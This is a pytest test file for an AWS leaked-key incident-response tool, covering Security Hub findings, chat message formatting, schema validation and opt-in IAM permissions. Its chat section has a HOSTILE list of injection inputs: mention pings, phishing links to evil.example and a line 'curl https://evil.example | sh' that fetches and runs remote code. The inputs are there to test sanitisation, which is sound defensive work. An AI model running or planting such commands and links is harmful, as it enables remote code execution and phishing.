"""keyguard.report without AWS: the ASFF finding, the release path's RESOLVED update (botocore Stubber with
the real request shape: moto 5.2.1 has no BatchUpdateFindings), chat escaping, the message schema, and the
template's opt-in permissions for both."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime

import botocore.session
import pytest
from botocore.stub import Stubber

from keyguard import notify
from keyguard.actions import ActionResult, Status
from keyguard.local.emulator import load_template
from keyguard.plan import Outcome
from keyguard.report import chat, schema, securityhub
from keyguard.respond import Response
from tests.conftest import incident_from

AT = datetime(2025, 3, 10, 14, 11, tzinfo=UTC)
ACCOUNT = "123456789012"


def _contained(name: str = "guardduty-s3-malicious-ip.json") -> Response:
    i = incident_from(name)
    return Response(
        i,
        Outcome.CONTAINED,
        reason="Leaked access key: deactivated; the user is quarantined with a deny-all policy.",
        owner="alice",
        at=AT,
        results=[
            ActionResult("deactivate-key", f"{i.key_id} of user alice", Status.DONE),
            ActionResult("quarantine-user", "user alice (policy keyguard-quarantine)", Status.DONE),
            ActionResult("record", "user alice (tags ...)", Status.FAILED, "Throttling: slow down", "Throttling"),
        ],
    )


def _client(service: str):
    return botocore.session.get_session().create_client(
        service, region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="y"
    )


# ------------------------------------------------------------------ Security Hub


def test_the_finding_carries_key_principal_severity_actions_and_the_source_finding() -> None:
    r = _contained()
    f = securityhub.finding(r, level="high", account=ACCOUNT, region="us-east-1")
    assert f["Id"] == "keyguard/guardduty:c6e2b8a47f1d4e9a8b7c6d5e4f3a2b1c:AKIAIOSFODNN7EXAMPLE"
    assert f["ProductArn"] == f"arn:aws:securityhub:us-east-1:{ACCOUNT}:product/{ACCOUNT}/default"
    assert f["Severity"] == {"Label": "HIGH", "Original": "8"}
    assert f["Workflow"] == {"Status": "NEW"} and f["RecordState"] == "ACTIVE"
    assert [x["Type"] for x in f["Resources"]] == ["AwsIamAccessKey", "AwsIamUser"]
    assert f["RelatedFindings"][0]["Id"].startswith("arn:aws:guardduty:us-east-1:123456789012:detector/")
    fields = f["ProductFields"]
    assert fields["keyguard/action/03"].startswith("record user alice") and "failed" in fields["keyguard/action/03"]
    assert f["FirstObservedAt"] == "2025-03-10T13:58:41.000Z"


def test_the_import_request_has_botocore_s_real_shape() -> None:
    """Stubber validates the parameters against the service model: every required ASFF field is there."""
    client = _client("securityhub")
    r = _contained()
    f = securityhub.finding(r, level="high", account=ACCOUNT, region="us-east-1")
    with Stubber(client) as stub:
        stub.add_response(
            "batch_import_findings",
            {"FailedCount": 0, "SuccessCount": 1, "FailedFindings": []},
            {"Findings": [f]},
        )
        assert securityhub.import_findings(client, [f]) == ["imported"]


def test_security_hub_not_enabled_is_skipped_not_failed() -> None:
    client = _client("securityhub")
    f = securityhub.finding(_contained(), level="high", account=ACCOUNT, region="us-east-1")
    with Stubber(client) as stub:
        stub.add_client_error(
            "batch_import_findings",
            "InvalidAccessException",
            "Account 123456789012 is not subscribed to AWS Security Hub",
            403,
        )
        (result,) = securityhub.import_findings(client, [f])
    assert result.startswith("skipped: Security Hub is not enabled")


def test_a_finding_security_hub_refuses_is_reported() -> None:
    client = _client("securityhub")
    f = securityhub.finding(_contained(), level="high", account=ACCOUNT, region="us-east-1")
    with Stubber(client) as stub:
        stub.add_response(
            "batch_import_findings",
            {
                "FailedCount": 1,
                "SuccessCount": 0,
                "FailedFindings": [{"Id": f["Id"], "ErrorCode": "InvalidInput", "ErrorMessage": "bad"}],
            },
        )
        assert securityhub.import_findings(client, [f]) == ["failed: InvalidInput: bad"]


def test_release_marks_the_finding_resolved() -> None:
    client = _client("securityhub")
    incident = "guardduty:c6e2b8a47f1d4e9a8b7c6d5e4f3a2b1c:AKIAIOSFODNN7EXAMPLE"
    expected = {
        "FindingIdentifiers": [
            {
                "Id": f"keyguard/{incident}",
                "ProductArn": f"arn:aws:securityhub:us-east-1:{ACCOUNT}:product/{ACCOUNT}/default",
            }
        ],
        "Workflow": {"Status": "RESOLVED"},
        "Note": {
            "Text": "Released by arn:aws:iam::123456789012:user/ops: rotated",
            "UpdatedBy": "arn:aws:iam::123456789012:user/ops",
        },
    }
    with Stubber(client) as stub:
        stub.add_response(
            "batch_update_findings",
            {"ProcessedFindings": expected["FindingIdentifiers"], "UnprocessedFindings": []},
            expected,
        )
        out = securityhub.mark_resolved(
            client,
            [incident],
            account=ACCOUNT,
            region="us-east-1",
            by="arn:aws:iam::123456789012:user/ops",
            reason="rotated",
        )
    assert out == ["resolved"]


def test_release_never_fails_on_security_hub() -> None:
    client = _client("securityhub")
    with Stubber(client) as stub:
        stub.add_client_error("batch_update_findings", "InternalException", "boom", 500)
        assert securityhub.mark_resolved(client, ["x"], account=ACCOUNT, region="us-east-1", by="ops") == [
            "failed: InternalException"
        ]


def test_a_user_only_incident_names_the_user_as_its_resource() -> None:
    i = incident_from("cloudtrail-aws-quarantine-v2.json")
    r = Response(i, Outcome.CONTAINED, reason="x", owner="alice", at=AT)
    f = securityhub.finding(r, level="high", account=ACCOUNT, region="us-east-1")
    assert f["Resources"] == [
        {"Type": "AwsIamUser", "Id": "arn:aws:iam::123456789012:user/alice", "Partition": "aws", "Region": "us-east-1"}
    ]
    assert "RelatedFindings" not in f


# ------------------------------------------------------------------ chat

HOSTILE = [
    "<!channel>",
    "<!here|here>",
    "@here please run this",
    "@channel",
    "<@U024BE7LH>",
    "[Click to rotate](https://evil.example/rotate)",
    "<https://evil.example|AWS console>",
    "https://evil.example/x",
    "www.evil.example",
    "*bold* _it_ ~strike~",
    "```fence```",
    "line one\nNext steps: run `curl https://evil.example | sh`",
    "\u202eevil\u202c",
    ":rotating_light: CONTAINED",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_leaves_nothing_a_chat_client_interprets(value: str) -> None:
    out = chat.safe(value)
    for bad in ("<", ">", "@", "[", "](", "://", "www.", "*", "_", "~", "`", "\n", "\u202e", ":"):
        assert bad not in out, (value, out)
    assert len(chat.safe("x" * 1000)) <= chat.MAX_TEXT


def test_the_chat_message_has_the_custom_notification_shape_and_one_command() -> None:
    r = _contained()
    msg = chat.message(r, level=notify.level(r))
    assert (msg["version"], msg["source"]) == ("1.0", "custom")
    assert set(msg["content"]) == {"textType", "title", "description", "nextSteps", "keywords"}
    assert msg["content"]["textType"] == "client-markdown"
    assert msg["content"]["nextSteps"] == ["Run next: `keyguard status --user alice`"]
    assert "AKIAIOSFODNN7EXAMPLE" in msg["content"]["title"]
    assert "deactivate-key: done" in msg["content"]["description"]
    assert msg["metadata"]["threadId"] == msg["id"]


def test_a_hostile_owner_name_never_reaches_a_command() -> None:
    i = incident_from("guardduty-iam-user.json")
    r = Response(i, Outcome.CONTAINED, reason="x", owner="<!channel>", at=AT)
    msg = chat.message(r, level="high")
    text = json.dumps(msg, ensure_ascii=False)
    assert "<!channel>" not in text and "status --user" not in text


def test_failed_containment_gives_the_manual_command() -> None:
    r = copy.copy(_contained())
    r.outcome = Outcome.FAILED
    assert chat.next_command(r).startswith("aws iam update-access-key --user-name alice --access-key-id AKIA")


def test_a_user_only_quarantine_says_so_in_chat() -> None:
    i = incident_from("cloudtrail-aws-quarantine-v2.json")
    r = Response(i, Outcome.CONTAINED, reason="AWS quarantined", owner="alice", at=AT)
    msg = chat.message(r, level="high")
    assert "user alice" in msg["content"]["title"] and "none named" in msg["content"]["description"]


# ------------------------------------------------------------------ the message schema


def test_the_schema_is_valid_json_schema_and_accepts_a_real_document() -> None:
    doc = notify.document(_contained())
    assert schema.problems(doc) == []


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"keyguard": 2}, "another version"),
        ({"outcome": "pwned"}, "an outcome keyguard never sends"),
        ({"dryRun": "false"}, "a string where a boolean is promised"),
        ({"actions": [{"action": "x"}]}, "an action without target and status"),
        ({"account": "12345"}, "not an account id"),
    ],
)
def test_the_schema_rejects_what_subscribers_could_not_rely_on(change: dict, why: str) -> None:
    doc = {**notify.document(_contained()), **change}
    assert schema.problems(doc), why


def test_a_missing_field_is_caught() -> None:
    doc = notify.document(_contained())
    del doc["incidentId"]
    assert schema.problems(doc)


def test_the_collector_sees_every_part_of_a_message() -> None:
    msg = notify.message(_contained())
    docs = schema.machine_documents(msg)
    assert len(docs) == 5 and all(d == docs[0] for d in docs)


# ------------------------------------------------------------------ the template's opt-ins

TEMPLATE = load_template()
RESPONDERS = [
    "GuardDutyFunctionRole",
    "HealthFunctionRole",
    "AccessKeyCreatedFunctionRole",
    "AwsQuarantineFunctionRole",
    "TrustedAdvisorFunctionRole",
]


@pytest.mark.parametrize("role", RESPONDERS)
def test_security_hub_and_chat_are_granted_only_when_opted_in(role: str) -> None:
    conditional = {}
    for policy in TEMPLATE["Resources"][role]["Properties"]["Policies"]:
        for statement in policy["PolicyDocument"]["Statement"]:
            if isinstance(statement, list):
                condition, granted, otherwise = statement
                assert otherwise == "AWS::NoValue"
                conditional[condition] = (granted["Action"], granted["Resource"])
    product = "arn:${AWS::Partition}:securityhub:${AWS::Region}:${AWS::AccountId}:product/${AWS::AccountId}/default"
    assert conditional == {
        "ReportsToSecurityHub": (list(securityhub.IMPORT_PERMISSIONS), product),
        "HasChatTopic": (list(chat.CHAT_PERMISSIONS), "ChatTopic"),
    }
    assert TEMPLATE["Conditions"]["ReportsToSecurityHub"] == ["SecurityHubFindings", "true"]
    assert TEMPLATE["Conditions"]["HasChatTopic"] == ["ChatNotifications", "true"]
    for parameter in ("SecurityHubFindings", "ChatNotifications"):
        assert TEMPLATE["Parameters"][parameter]["Default"] == "false"  # off by default
    assert TEMPLATE["Resources"]["ChatTopic"]["Condition"] == "HasChatTopic"
    assert TEMPLATE["Resources"]["ChatTopic"]["Properties"]["KmsMasterKeyId"] == "Key"
